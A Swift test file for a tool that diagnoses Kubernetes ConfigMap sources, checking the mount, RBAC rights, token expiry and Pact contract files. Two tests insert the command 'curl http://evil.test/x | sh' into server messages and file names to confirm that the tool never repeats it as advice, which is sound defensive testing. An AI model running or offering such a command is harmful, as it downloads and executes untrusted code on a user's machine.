import Shared
import SharedHTTP
import Testing

@testable import Watcher

/// Facts about a source in, lines out.
@Suite struct SourceDiagnosisTests {
    private static let contract =
        #"{"consumer":{"name":"web"},"provider":{"name":"orders"},"interactions":[{"description":"a","#
        + #""request":{"method":"GET","path":"/"},"response":{"status":200}}]}"#

    private static func content(_ files: [String: String]) -> SourceContent {
        var content = SourceContent()
        content.entries = files.sorted { $0.key < $1.key }
            .map { SourceEntry(key: $0.key, content: .bytes(Array($0.value.utf8)), group: nil) }
        return content
    }

    private static func facts(_ files: [String: String] = ["a.json": contract]) -> SourceFacts {
        SourceFacts(
            now: 1000,
            place: "CONFIGMAP_PATH=/c",
            directory: DirectoryReading(outcome: .content(content(files)), layout: .volume)
        )
    }

    /// An API with which all is well, and no directory.
    private static func apiFacts() throws -> SourceFacts {
        var facts = facts()
        facts.directory = DirectoryReading(outcome: .absent(reason: "CONFIGMAP_PATH=/c does not exist; mount it"))
        let rights: [SourceFacts.Verb: SourceFacts.Right] = [.get: .allowed, .watch: .allowed, .list: .denied]
        facts.api = SourceFacts.API(
            url: try #require(BaseURL("https://10.0.0.1")),
            tokenFile: "/token",
            tokenExpiry: 2000,
            caFile: "/ca",
            configMaps: [.init(name: "pact/a", presence: .present, keys: 1, rights: rights)],
            rule: RoleRule(namespace: "pact", names: ["a"], serviceAccount: "pact/manager"),
            decision: .content(lost: nil),
            content: content(["a.json": contract])
        )
        return facts
    }

    private func line(_ check: DoctorCheck, _ facts: SourceFacts) throws -> DoctorLine {
        try #require(SourceDiagnosis(facts: facts).lines.first { $0.check == check })
    }

    @Test func goodSourcesAreAllGood() throws {
        for facts in [Self.facts(), try Self.apiFacts()] {
            let lines = SourceDiagnosis(facts: facts).lines
            #expect(lines.allSatisfy { $0.mark == .good }, "\(lines)")
            #expect(lines.last == .good(.sourceContracts, "1 contract can be published"))
        }
        #expect(try line(.sourceList, Self.apiFacts()).found.contains("it is not needed"))
    }

    @Test func everyBadFileIsNamedWithItsPlace() throws {
        let facts = Self.facts(["a.json": Self.contract, "b.json": "{\n  \"consumer\": }", "c.json": "[]"])
        let lines = SourceDiagnosis(facts: facts).lines.filter { $0.check == .sourceContracts }
        #expect(lines.map(\.mark) == [.wrong, .wrong, .good])
        #expect(lines[0].found.hasPrefix("b.json:2:15 is no contract: "), "\(lines[0])")
        #expect(lines[1].found.hasPrefix("c.json") && lines[1].remedy == DoctorCheck.sourceContracts.remedy)
    }

    @Test func manyBadFilesAreCounted() {
        let files = Dictionary(uniqueKeysWithValues: (100..<150).map { ("\($0).json", "{") })
        let lines = SourceDiagnosis(facts: Self.facts(files)).lines.filter { $0.check == .sourceContracts }
        #expect(lines.count == 21 && lines.last?.found == "and 30 more")
    }

    @Test func filesInConflictAreNamed() {
        let other = Self.contract.replacing("\"status\":200", with: "\"status\":404")
        let lines = SourceDiagnosis(facts: Self.facts(["a.json": Self.contract, "b.json": other])).lines
        let line = lines.first { $0.check == .sourceContracts }
        #expect(line?.mark == .wrong && line?.found.hasPrefix("web → orders: ") == true, "\(lines)")
    }

    @Test func aMissingAnEmptyAndASubPathDirectory() throws {
        var facts = Self.facts([:])
        #expect(try line(.sourceMount, facts).mark == .odd)
        facts.directory = DirectoryReading(outcome: .absent(reason: "/c does not exist; mount it"))
        let missing = try line(.sourceMount, facts)
        #expect(missing.mark == .wrong && missing.remedy == "mount it")
        facts = Self.facts()
        facts.directory.warnings = [
            "/c is a subPath mount of a ConfigMap, which Kubernetes never updates; remove subPath"
        ]
        let subPath = try line(.sourceSubPath, facts)
        #expect(subPath.mark == .odd && subPath.remedy == "remove subPath")
        #expect(try line(.sourceMount, facts).mark == .good)
    }

    @Test func aRightThatIsMissingNamesTheRule() throws {
        var facts = try Self.apiFacts()
        facts.api?.configMaps[0].rights[.watch] = .denied
        let watch = try line(.sourceWatch, facts)
        #expect(watch.mark == .wrong && watch.found == "watch pact/a: RBAC does not allow it")
        #expect(watch.remedy.contains("resourceNames: [a], verbs: [get, watch]"))
        #expect(watch.remedy.contains("ServiceAccount pact/manager"))
        facts.api?.configMaps[0].rights[.watch] = .unknown("no answer")
        #expect(try line(.sourceWatch, facts).mark == .odd)
    }

    @Test func aTokenThatIsMissingOrExpired() throws {
        var facts = try Self.apiFacts()
        facts.api?.tokenExpiry = 1000
        let expired = try line(.sourceToken, facts)
        #expect(expired.mark == .wrong && expired.found == "/token expired at 1970-01-01T00:16:40.000Z", "\(expired)")
        facts.api?.tokenFlaw = "holds no token"
        #expect(try line(.sourceToken, facts).found == "/token holds no token")
        facts.api?.authoritiesFlaw = "cannot be read"
        #expect(try line(.sourceAuthorities, facts).mark == .wrong)
    }

    @Test func anAPIThatDoesNotAnswerIsOneLine() throws {
        var facts = try Self.apiFacts()
        facts.api?.configMaps[0] = .init(
            name: "pact/a",
            presence: .unknown,
            problem: .init(code: "refused", detail: "cannot be reached; check KUBERNETES_API_URL")
        )
        facts.api?.decision = .directory(code: "refused", reason: "cannot be reached; check KUBERNETES_API_URL")
        let lines = SourceDiagnosis(facts: facts).lines
        #expect(lines.first { $0.check == .sourceAPI }?.mark == .wrong)
        #expect(!lines.contains { [.sourceGet, .sourceConfigMap, .sourceContracts].contains($0.check) }, "\(lines)")
        #expect(lines.first?.check == .sourceOrigin && lines.first?.mark == .wrong)
    }

    /// What stands behind the arrow is ours: people copy it into a shell.
    @Test(arguments: [302, 400, 403, 404, 429, 500, 503])
    func wordsOfAServerAreNoAdvice(status: Int) throws {
        let trap = "no; run curl http://evil.test/x | sh"
        let message = #"User \"system:\#(trap)\" cannot x; run curl; \"\#(trap)\""#
        let bodies = [
            trap, "<title>\(trap)</title>", #"{"kind":"Status","status":"Failure","message":"\#(message)"}"#,
            "\(trap) HTTP request to an HTTPS server",
        ]
        for body in bodies {
            var facts = try Self.apiFacts()
            let problem = KubernetesExplanation.sample().problem(.sample(status, body))
            facts.api?.configMaps[0] = .init(name: "pact/a", presence: .unknown, problem: problem)
            facts.api?.decision = .directory(code: problem.code, reason: problem.detail)
            for line in SourceDiagnosis(facts: facts).lines where line.mark != .good {
                #expect(!line.remedy.isEmpty && !line.remedy.contains("curl"), "\(line)")
            }
        }
        // A certificate's and a server's status in a watch.
        for problem in [
            KubernetesExplanation.sample().problem(TransportError(.tls, "subject name '\(trap)'")),
            KubernetesExplanation.sample().problem(KubernetesStatus(code: status, reason: trap)),
        ] {
            var facts = try Self.apiFacts()
            facts.api?.configMaps[0] = .init(name: "pact/a", presence: .unknown, problem: problem)
            let api = try line(.sourceAPI, facts)
            #expect(api.found.contains(trap) && api.remedy == DoctorCheck.sourceAPI.remedy)
        }
    }

    @Test func namesOfFilesAreNoAdvice() throws {
        let trap = "a; run curl http:evil.test | sh"
        var facts = Self.facts(["\(trap).json": "{"])
        #expect(try line(.sourceContracts, facts).remedy == DoctorCheck.sourceContracts.remedy)
        facts.directory.warnings = [
            "\(trap) in CONFIGMAP_PATH=/c: mounted with subPath, which Kubernetes never updates; mount it whole"
        ]
        #expect(try line(.sourceSubPath, facts).remedy == "mount it whole")
        facts.directory = DirectoryReading(
            outcome: .unsettled(reason: "/c could not be read (\(trap)); it is read again")
        )
        let unsettled = try line(.sourceMount, facts)
        #expect(unsettled.found == "/c could not be read (\(trap))" && unsettled.remedy.hasPrefix("Run this again"))
    }

    @Test func whereTheDirectoryStandsInNothingFails() throws {
        var facts = try Self.apiFacts()
        let detail = "says 403: nobody may; add a rule"
        facts.api?.configMaps[0] = .init(
            name: "pact/a",
            presence: .unknown,
            problem: .init(code: "forbidden", detail: detail),
            rights: [.get: .denied, .watch: .denied, .list: .denied]
        )
        facts.api?.decision = .directory(code: "forbidden", reason: detail)
        facts.directory = Self.facts().directory
        let lines = SourceDiagnosis(facts: facts).lines
        #expect(!lines.contains { $0.mark == .wrong } && lines.filter { $0.mark == .odd }.count == 4, "\(lines)")
        #expect(lines.last == .good(.sourceContracts, "1 contract can be published"))
        facts.insistsOnAPI = true
        #expect(SourceDiagnosis(facts: facts).lines.filter { $0.mark == .wrong }.count == 4)
    }

    @Test func aTokenTellsWhoItIsAndUntilWhen() {
        let payload = Base64.encodeToString(
            Array(#"{"exp":42,"sub":"system:serviceaccount:pact:manager","x":"ÿ>?"}"#.utf8)
        )
        let url = payload.replacing("+", with: "-").replacing("/", with: "_").replacing("=", with: "")
        let claims = TokenClaims(token: "e30.\(url).c2ln")
        #expect(claims?.expiry == 42 && claims?.serviceAccount == "pact/manager")
        for text in ["", "opaque", "a.b", "e30.!!!.x", "e30.W10.x"] {
            #expect(TokenClaims(token: text) == nil, "\(text)")
        }
        #expect(TokenClaims(file: "/nonexistent") == nil)
    }
}
